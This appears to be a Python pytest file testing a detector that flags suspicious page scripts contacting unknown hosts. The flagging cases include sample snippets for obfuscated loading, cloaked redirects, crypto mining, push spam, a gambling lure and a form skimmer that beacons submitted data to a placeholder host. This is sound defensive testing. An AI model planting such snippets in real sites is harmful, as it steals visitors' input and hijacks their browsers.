"""What scripts of a page do with hosts that nobody knows."""

from __future__ import annotations

import pytest

from tests.unit.content.detectors.pages import alarms


@pytest.mark.parametrize(
    ("code", "rule"),
    [
        ("var a=['cdn7','tram','example'];s.src='//'+a.join('.')+'/x.js'", "decoded"),
        ("if(new Date().getHours()>19)location.href='https://dem.example/'", "asks_when"),
        ("if(/coccoc|google/.test(document.referrer))location.href='https://den.example/'", "asks_who_comes"),
        ("new WebSocket('wss://be.example/p');new Worker(u);s.send({job_id:1,nonce:2})", "mines"),
        ("var m=new Zeta.Anonymous('k',{throttle:.2});m.start()", "mines"),
        (
            "f.addEventListener('submit',e=>navigator.sendBeacon('https://gom.example/c',new FormData(f)))",
            "sends_input",
        ),
        ("Notification.requestPermission();r.pushManager.subscribe(k);fetch('https://bao.example/s')", "pushes"),
        ("x.fillText('NHÀ CÁI - RÚT TIỀN 30 GIÂY',9,9);c.onclick=()=>location='https://vao.example/'", "script_text"),
        ("setTimeout(()=>{location.href='https://noi-khac.example/'},900)", "says_nothing_of_it"),
    ],
)
def test_what_scripts_do_with_foreign_hosts_is_told(code: str, rule: str) -> None:
    assert rule in alarms(f"<script>{code}</script>")


@pytest.mark.parametrize(
    "code",
    [
        "var u='//matomo.hoi.example/';g.src=u+'matomo.js';_paq.push(['setTrackerUrl',u+'matomo.php'])",
        "s.src='https:'+'//embed.tro-chuyen.example/5f'",
        'var d={"url":"https:\\/\\/ban-do.example\\/tile"};s.src=d.url',
        "if(screen.width<600)location.href='/m/'",
        "fetch('/api/tin').then(r=>r.json()).then(d=>{b.innerHTML=d.map(x=>`<a href='${x.url}'>${x.ten}</a>`)})",
        "var cam=['nhà cái','casino','tài xỉu'];if(cam.some(w=>t.includes(w)))alert('Nội dung bị cấm')",
        "b.onclick=function(){location.href='https://chia-se.example/?u='+location.href}",
    ],
)
def test_what_honest_scripts_do_is_not(code: str) -> None:
    assert not alarms(f"<script>{code}</script>")


def test_a_site_that_moved_says_where_to() -> None:
    refresh = '<meta http-equiv="refresh" content="3;url=https://noimoi.example/">'
    assert alarms(head=refresh) == {"refresh", "says_nothing_of_it"}
    assert not alarms("<p>Trang đã chuyển sang địa chỉ mới.</p>", head=refresh)
    assert not alarms("<p>Xem noimoi.example</p>", head=refresh)
    assert not alarms(head=refresh.replace("noimoi", "xaantruc"))
